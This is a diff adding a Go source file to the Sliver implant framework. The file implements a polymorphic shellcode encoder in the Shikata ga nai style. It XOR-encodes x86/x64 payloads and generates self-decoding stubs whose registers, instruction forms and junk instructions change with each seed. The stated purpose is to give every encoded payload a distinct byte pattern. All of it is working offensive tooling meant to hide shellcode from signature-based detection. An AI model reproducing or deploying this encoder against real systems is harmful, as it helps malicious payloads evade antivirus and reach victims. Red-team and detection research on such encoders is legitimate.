@@ -0,0 +1,280 @@
+package sgn
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+// Shikata ga nai style polymorphic encoder for x86 and x64 shellcode. The
+// payload is XOR encoded one dword at a time with additive feedback, each
+// decoded dword is added to the key. The decoder stub is generated from a
+// seed, its registers, instruction forms and junk instructions change with
+// the seed so each encoded blob has a distinct byte pattern. The decoder
+// writes over the payload so it must run from writable memory.
+
+import (
+	"encoding/binary"
+	"errors"
+	insecureRand "math/rand"
+)
+
+const (
+	regEAX = 0
+	regECX = 1
+	regEDX = 2
+	regEBX = 3
+	regESI = 6
+	regEDI = 7
+
+	// rexW - Prefix for 64-bit operands
+	rexW = 0x48
+
+	// maxJunk - Junk instructions per gap, keeps the loop in reach of a short jump
+	maxJunk = 2
+)
+
+var (
+	// ErrUnsupportedArch - Only x86 and x64 shellcode can be encoded
+	ErrUnsupportedArch = errors.New("Shellcode encoder only supports 386 and amd64")
+
+	// ErrEmptyShellcode - Nothing to encode
+	ErrEmptyShellcode = errors.New("No shellcode to encode")
+
+	// ESP and EBP need different addressing forms so they're never used
+	usableRegs = []byte{regEAX, regECX, regEDX, regEBX, regESI, regEDI}
+)
+
+// Encode - Encode shellcode for arch ("386" or "amd64"), the same seed always
+// produces the same output
+func Encode(shellcode []byte, arch string, seed int64) ([]byte, error) {
+	var x64 bool
+	switch arch {
+	case "amd64":
+		x64 = true
+	case "386":
+		x64 = false
+	default:
+		return nil, ErrUnsupportedArch
+	}
+	if len(shellcode) == 0 {
+		return nil, ErrEmptyShellcode
+	}
+
+	rng := insecureRand.New(insecureRand.NewSource(seed))
+	regs := rng.Perm(len(usableRegs))
+	stub := &stub{
+		rng:  rng,
+		x64:  x64,
+		key:  usableRegs[regs[0]],
+		ptr:  usableRegs[regs[1]],
+		ctr:  usableRegs[regs[2]],
+		junk: usableRegs[regs[3]],
+	}
+
+	key := rng.Uint32()
+	payload := make([]byte, len(shellcode))
+	copy(payload, shellcode)
+	for len(payload)%4 != 0 {
+		payload = append(payload, byte(rng.Intn(256)))
+	}
+	decoder := stub.decoder(key, uint32(len(payload)/4))
+	return append(decoder, encode(payload, key)...), nil
+}
+
+// encode - XOR each dword with the key, then add the plain dword to the key
+func encode(payload []byte, key uint32) []byte {
+	encoded := make([]byte, len(payload))
+	for index := 0; index+4 <= len(payload); index += 4 {
+		plain := binary.LittleEndian.Uint32(payload[index:])
+		binary.LittleEndian.PutUint32(encoded[index:], plain^key)
+		key += plain
+	}
+	return encoded
+}
+
+// decode - Reverse of encode, the stub does the same thing
+func decode(encoded []byte, key uint32) []byte {
+	payload := make([]byte, len(encoded))
+	for index := 0; index+4 <= len(encoded); index += 4 {
+		plain := binary.LittleEndian.Uint32(encoded[index:]) ^ key
+		binary.LittleEndian.PutUint32(payload[index:], plain)
+		key += plain
+	}
+	return payload
+}
+
+type stub struct {
+	rng  *insecureRand.Rand
+	x64  bool
+	key  byte
+	ptr  byte
+	ctr  byte
+	junk byte
+}
+
+// decoder - The decoder stub, the encoded payload goes right after it
+func (s *stub) decoder(key uint32, blocks uint32) []byte {
+	// Everything after the instruction that gets the payload's address
+	tail := s.junkInstructions()
+	tail = append(tail, s.movImm(s.ctr, blocks)...)
+	tail = append(tail, s.junkInstructions()...)
+	tail = append(tail, s.loop()...)
+
+	decoder := s.junkInstructions()
+	decoder = append(decoder, s.movImm(s.key, key)...)
+	decoder = append(decoder, s.junkInstructions()...)
+	decoder = append(decoder, s.payloadAddress(uint32(len(tail)))...)
+	return append(decoder, tail...)
+}
+
+// payloadAddress - Load the address of the payload into the pointer register,
+// offset is the size of the stub after this instruction
+func (s *stub) payloadAddress(offset uint32) []byte {
+	if s.x64 {
+		// lea ptr, [rip+offset]
+		return append([]byte{rexW, 0x8d, modRM(0, s.ptr, 5)}, imm32(offset)...)
+	}
+	var code []byte
+	var pc uint32 // bytes between the address that's popped and the add
+	if s.rng.Intn(2) == 0 {
+		// call $+5; pop ptr
+		code = []byte{0xe8, 0, 0, 0, 0, 0x58 + s.ptr}
+		pc = 1
+	} else {
+		// jmp short call; back: pop ptr; jmp short done; call back; done:
+		code = []byte{0xeb, 0x03, 0x58 + s.ptr, 0xeb, 0x05, 0xe8, 0xf8, 0xff, 0xff, 0xff}
+		pc = 0
+	}
+	offset += pc + 6
+	switch s.rng.Intn(3) {
+	case 0: // add ptr, offset
+		code = append(code, 0x81, modRM(3, 0, s.ptr))
+		code = append(code, imm32(offset)...)
+	case 1: // sub ptr, -offset
+		code = append(code, 0x81, modRM(3, 5, s.ptr))
+		code = append(code, imm32(-offset)...)
+	default: // lea ptr, [ptr+offset]
+		code = append(code, 0x8d, modRM(2, s.ptr, s.ptr))
+		code = append(code, imm32(offset)...)
+	}
+	return code
+}
+
+// loop - xor [ptr], key; add key, [ptr]; ptr += 4; dec ctr; jnz loop
+func (s *stub) loop() []byte {
+	body := []byte{0x31, modRM(0, s.key, s.ptr)}
+	body = append(body, s.junkInstructions()...)
+	body = append(body, 0x03, modRM(0, s.key, s.ptr))
+	body = append(body, s.junkInstructions()...)
+
+	// lea doesn't change the flags, so it can come after the counter
+	var code []byte
+	if s.rng.Intn(2) == 0 {
+		code = append(body, s.advance(false)...)
+		code = append(code, s.decrement()...)
+	} else {
+		code = append(body, s.decrement()...)
+		code = append(code, s.advance(true)...)
+	}
+	jump := -(len(code) + 2)
+	return append(code, 0x75, byte(int8(jump)))
+}
+
+// advance - ptr += 4, withLea keeps the flags
+func (s *stub) advance(withLea bool) []byte {
+	var code []byte
+	if s.x64 {
+		code = []byte{rexW}
+	}
+	if withLea || s.rng.Intn(3) == 0 {
+		return append(code, 0x8d, modRM(1, s.ptr, s.ptr), 0x04)
+	}
+	if s.rng.Intn(2) == 0 {
+		return append(code, 0x83, modRM(3, 0, s.ptr), 0x04) // add ptr, 4
+	}
+	return append(code, 0x83, modRM(3, 5, s.ptr), 0xfc) // sub ptr, -4
+}
+
+// decrement - ctr--, sets the zero flag
+func (s *stub) decrement() []byte {
+	switch s.rng.Intn(3) {
+	case 0:
+		return []byte{0xff, modRM(3, 1, s.ctr)} // dec ctr
+	case 1:
+		return []byte{0x83, modRM(3, 5, s.ctr), 0x01} // sub ctr, 1
+	default:
+		return []byte{0x83, modRM(3, 0, s.ctr), 0xff} // add ctr, -1
+	}
+}
+
+// movImm - Load a 32-bit value into reg
+func (s *stub) movImm(reg byte, value uint32) []byte {
+	mask := s.rng.Uint32()
+	switch s.rng.Intn(4) {
+	case 0: // mov reg, value
+		return append([]byte{0xb8 + reg}, imm32(value)...)
+	case 1: // push value; pop reg
+		code := append([]byte{0x68}, imm32(value)...)
+		return append(code, 0x58+reg)
+	case 2: // mov reg, value^mask; xor reg, mask
+		code := append([]byte{0xb8 + reg}, imm32(value^mask)...)
+		code = append(code, 0x81, modRM(3, 6, reg))
+		return append(code, imm32(mask)...)
+	default: // mov reg, value-mask; add reg, mask
+		code := append([]byte{0xb8 + reg}, imm32(value-mask)...)
+		code = append(code, 0x81, modRM(3, 0, reg))
+		return append(code, imm32(mask)...)
+	}
+}
+
+// junkInstructions - Instructions that only change the junk register and flags
+func (s *stub) junkInstructions() []byte {
+	code := []byte{}
+	for count := s.rng.Intn(maxJunk + 1); 0 < count; count-- {
+		switch s.rng.Intn(9) {
+		case 0:
+			code = append(code, 0x90) // nop
+		case 1:
+			code = append(code, 0xb8+s.junk) // mov junk, imm32
+			code = append(code, imm32(s.rng.Uint32())...)
+		case 2:
+			code = append(code, 0x31, modRM(3, s.junk, s.junk)) // xor junk, junk
+		case 3:
+			code = append(code, 0xff, modRM(3, 0, s.junk)) // inc junk
+		case 4:
+			code = append(code, 0x83, modRM(3, 0, s.junk), byte(s.rng.Intn(256))) // add junk, imm8
+		case 5:
+			code = append(code, 0xf7, modRM(3, 2, s.junk)) // not junk
+		case 6:
+			code = append(code, 0x50+s.junk, 0x58+s.junk) // push junk; pop junk
+		case 7:
+			code = append(code, []byte{0xf5, 0xf8, 0xf9}[s.rng.Intn(3)]) // cmc, clc or stc
+		default:
+			code = append(code, 0x87, modRM(3, s.junk, s.junk)) // xchg junk, junk
+		}
+	}
+	return code
+}
+
+func modRM(mod byte, reg byte, rm byte) byte {
+	return mod<<6 | reg<<3 | rm
+}
+
+func imm32(value uint32) []byte {
+	buf := make([]byte, 4)
+	binary.LittleEndian.PutUint32(buf, value)
+	return buf
+}